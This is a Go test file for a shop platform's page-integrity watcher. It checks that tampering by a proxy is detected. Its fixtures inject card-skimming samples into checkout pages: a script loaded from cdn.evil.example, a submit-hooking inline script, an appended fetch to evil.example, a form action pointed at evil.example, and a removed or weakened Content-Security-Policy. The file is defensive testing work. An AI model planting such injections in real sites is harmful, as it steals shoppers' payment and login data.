package server_test

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/noren-shop/noren/internal/base/actor"
	"github.com/noren-shop/noren/internal/base/config"
	"github.com/noren-shop/noren/internal/base/db"
	"github.com/noren-shop/noren/internal/base/egress"
	"github.com/noren-shop/noren/internal/base/id"
	"github.com/noren-shop/noren/internal/base/signal"
	"github.com/noren-shop/noren/internal/commerce/catalog"
	"github.com/noren-shop/noren/internal/security/pages"
	"github.com/noren-shop/noren/internal/security/pages/checks"
	"github.com/noren-shop/noren/internal/security/pages/watch"
	"github.com/noren-shop/noren/internal/server"
	"github.com/noren-shop/noren/internal/server/servertest"
)

// between stands between visitors and the server, as a proxy or a CDN does, and does what an attacker there would.
type between struct {
	to string // the listener of all names

	mu   sync.Mutex
	evil func(*http.Response, []byte) []byte
}

func (b *between) set(evil func(*http.Response, []byte) []byte) {
	b.mu.Lock()
	defer b.mu.Unlock()
	b.evil = evil
}

// proxy listens for visitors and hands on what they ask for and get.
func proxy(t *testing.T, to string) (*between, string) {
	t.Helper()
	b := &between{to: to}
	r := &httputil.ReverseProxy{
		Rewrite: func(p *httputil.ProxyRequest) {
			p.SetURL(&url.URL{Scheme: "http", Host: to})
			p.Out.Host = p.In.Host
		},
		ModifyResponse: func(res *http.Response) error {
			b.mu.Lock()
			evil := b.evil
			b.mu.Unlock()
			if evil == nil {
				return nil
			}
			body, err := io.ReadAll(res.Body)
			if err != nil {
				return err
			}
			body = evil(res, body)
			res.Body, res.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
			res.Header.Set("Content-Length", strconv.Itoa(len(body)))
			return nil
		}}
	s := httptest.NewServer(r)
	t.Cleanup(s.Close)
	return b, s.Listener.Addr().String()
}

// findings gathers what is raised.
type findings struct {
	mu   sync.Mutex
	list []signal.Event
}

func (f *findings) raise(_ context.Context, e signal.Event) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.list = append(f.list, e)
}

func (f *findings) take() []signal.Event {
	f.mu.Lock()
	defer f.mu.Unlock()
	out := f.list
	f.list = nil
	return out
}

// A watched is a running house with a shop, a watcher that looks at it through the proxy, and what was raised.
type watched struct {
	*servertest.Server
	proxy  *between
	at     string // the proxy's listener
	raised *findings
	w      *watch.Watcher
	dir    string
	socket string
	stop   func()
}

func watchHouse(t *testing.T) *watched {
	t.Helper()
	dir, err := os.MkdirTemp("", "nw") // a socket's path is short
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	h := &watched{raised: &findings{}, dir: filepath.Join(dir, "own"), socket: filepath.Join(dir, "s")}
	c := &config.Config{}
	c.Watch.Watchers, c.Watch.Shop = []string{"unix:" + h.socket}, "tea"
	h.Server = servertest.With(t, server.Options{Config: c, Raise: h.raised.raise})
	shop := h.OpenShop(t, "tea")
	h.Product(t, shop, catalog.In{Name: "売り切れ", Handle: "gone", Variants: []catalog.VariantIn{{Price: 500}}}, 0)
	h.Product(t, shop, catalog.In{Name: "煎茶", Handle: "sencha", Variants: []catalog.VariantIn{{Price: 1080}}}, 5)
	h.proxy, h.at = proxy(t, h.Address)
	h.open(t)
	return h
}

// open starts the watcher, with what it remembers.
func (h *watched) open(t *testing.T) {
	t.Helper()
	var err error
	h.w, err = server.OpenWatcher(server.WatchConfig{Dir: h.dir, Now: h.Clock.Now}, h.Config, h.Book, egress.Net{Dial: h.dial}, slog.New(slog.DiscardHandler))
	if err != nil {
		t.Fatal(err)
	}
	_ = os.Remove(h.socket)
	l, err := net.Listen("unix", h.socket)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.WithoutCancel(t.Context()))
	var wg sync.WaitGroup
	wg.Go(func() { _ = h.w.Serve(ctx, l) })
	var once sync.Once
	h.stop = func() { once.Do(func() { cancel(); wg.Wait(); h.w.Close() }) }
	t.Cleanup(func() { h.stop() })
}

// dial leads every name to the proxy.
func (h *watched) dial(ctx context.Context, network, _ string) (net.Conn, error) {
	var d net.Dialer
	return d.DialContext(ctx, network, h.at)
}

// look has the watcher look once.
func (h *watched) look(t *testing.T) pages.Round {
	t.Helper()
	r, err := h.w.Round(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// hear has the server ask, and gives what it raised.
func (h *watched) hear(t *testing.T) []signal.Event {
	t.Helper()
	if err := h.Checks.Hear(t.Context()); err != nil {
		t.Fatal(err)
	}
	return h.raised.take()
}

func (h *watched) state(t *testing.T) (s checks.State) {
	t.Helper()
	who := db.Scope{Actor: actor.Actor{Kind: actor.Operator}.With(), Request: "test", Shop: id.Platform}
	err := h.DB.Read(t.Context(), who, func(r db.Reader) (err error) {
		s, err = h.Checks.State(t.Context(), r)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestAnUnchangedHouseIsSilent(t *testing.T) {
	t.Parallel()
	h := watchHouse(t)
	const rounds = 30
	for range rounds {
		for _, p := range h.look(t).Pages {
			if p.Outcome != pages.Same || len(p.Files) != 3 {
				t.Fatalf("%+v", p)
			}
		}
	}
	if got := h.hear(t); len(got) != 0 {
		t.Errorf("raised %v", got)
	}
	s := h.state(t)
	if len(s.Latest) != 8 || len(s.Watchers) != 1 || s.Watchers[0].Silent || len(s.Troubles) != 0 {
		t.Fatalf("%+v", s)
	}
	looks := int64(0)
	for _, hour := range s.Hours {
		looks += hour.Looks
	}
	if looks != 8*rounds {
		t.Errorf("%d looks are kept, want %d", looks, 8*rounds)
	}
	if again := h.hear(t); len(again) != 0 || h.state(t).Latest[0].Looks != s.Latest[0].Looks {
		t.Errorf("looks count twice when they are asked for twice: %v", again)
	}
}

// TestWhatAProxyDoesIsFoundInTheNextLook puts an attacker between the visitors and the server.
func TestWhatAProxyDoesIsFoundInTheNextLook(t *testing.T) {
	t.Parallel()
	h := watchHouse(t)
	h.look(t)
	if got := h.hear(t); len(got) != 0 {
		t.Fatalf("raised %v", got)
	}
	is := func(res *http.Response, kind string) bool {
		return strings.HasPrefix(res.Header.Get("Content-Type"), kind)
	}
	page := func(change func(http.Header, []byte) []byte) func(*http.Response, []byte) []byte {
		return func(res *http.Response, b []byte) []byte {
			if is(res, "text/html") && strings.HasSuffix(res.Request.URL.Path, "/checkout") {
				return change(res.Header, b)
			}
			return b
		}
	}
	insert := func(s string) func(http.Header, []byte) []byte {
		return func(_ http.Header, b []byte) []byte {
			return bytes.Replace(b, []byte("</body>"), []byte(s+"</body>"), 1)
		}
	}
	const checkout = "account /s/{shop}/checkout"
	for _, c := range []struct {
		name  string
		evil  func(*http.Response, []byte) []byte
		code  signal.Code
		about string
		only  string // the one page that it is found on; "" is all
	}{
		{"a script from elsewhere", page(insert(`<script src="https://cdn.evil.example/jq.js?1"></script>`)), pages.ScriptChanged, "https://cdn.evil.example/jq.js", checkout},
		{"an inline script", page(insert(`<script>document.forms[0].addEventListener("submit",x)</script>`)), pages.ScriptChanged, "inline ", checkout},
		{"our script, with more in it", func(res *http.Response, b []byte) []byte {
			if is(res, "text/javascript") {
				return append(b, "\nfetch('//evil.example')"...)
			}
			return b
		}, pages.ScriptChanged, "noren.js", ""},
		{"no policy", page(func(h http.Header, b []byte) []byte { h.Del("Content-Security-Policy"); return b }), pages.HeaderChanged, "Content-Security-Policy", checkout},
		{"a weaker policy", page(func(h http.Header, b []byte) []byte {
			h.Set("Content-Security-Policy", strings.Replace(h.Get("Content-Security-Policy"), "script-src ", "script-src https: ", 1))
			return b
		}), pages.HeaderChanged, "Content-Security-Policy", checkout},
		{"a form that leads away", page(func(_ http.Header, b []byte) []byte {
			return bytes.Replace(b, []byte(`method="post" action="/s/`), []byte(`method="post" action="https://evil.example/s/`), 1)
		}), pages.ScriptChanged, "https://evil.example/s/", checkout},
		{"a page that is gone", page(func(h http.Header, _ []byte) []byte { h.Set("Content-Type", "text/plain"); return nil }), pages.Unreachable, "page", checkout},
	} {
		h.proxy.set(c.evil)
		h.look(t)
		found := false
		for _, e := range h.hear(t) {
			if e.Code == c.code && strings.Contains(e.About, c.about) {
				found = true
			}
			if c.only != "" && e.Where != c.only {
				t.Errorf("%s: raised at %s: %v", c.name, e.Where, e)
			}
		}
		if !found {
			t.Errorf("%s is not found", c.name)
		}
	}
	h.proxy.set(nil)
	h.look(t)
	if got := h.hear(t); len(got) != 0 {
		t.Errorf("when all is well again: %v", got)
	}
	if s := h.state(t); len(s.Troubles) < 7 {
		t.Errorf("%d troubles are kept", len(s.Troubles))
	}
}

func TestAWatcherThatIsSilentIsAFinding(t *testing.T) {
	t.Parallel()
	h := watchHouse(t)
	h.look(t)
	h.hear(t)
	h.Clock.Add(2 * time.Minute)
	if got := h.hear(t); len(got) != 0 {
		t.Errorf("after two minutes: %v", got)
	}
	h.Clock.Add(2 * time.Minute)
	if got := h.hear(t); len(got) != 1 || got[0].Code != pages.WatcherSilent {
		t.Errorf("after four minutes: %v", got)
	}
	if got := h.hear(t); len(got) != 0 {
		t.Errorf("the same silence again: %v", got)
	}
	if !h.state(t).Watchers[0].Silent {
		t.Error("the state does not show it")
	}
	// The watcher looks on while it is not asked, and remembers over its own end.
	h.proxy.set(func(res *http.Response, b []byte) []byte { res.Header.Del("X-Frame-Options"); return b })
	h.look(t)
	h.proxy.set(nil)
	h.look(t)
	h.stop()
	h.Clock.Add(4 * time.Minute)
	h.hear(t)
	h.open(t)
	found := false
	for _, e := range h.hear(t) {
		found = found || e.Code == pages.HeaderChanged && strings.HasSuffix(e.About, "X-Frame-Options")
	}
	if !found {
		t.Error("what was found while nobody asked is lost")
	}
	if h.state(t).Watchers[0].Silent {
		t.Error("it is heard again")
	}
}
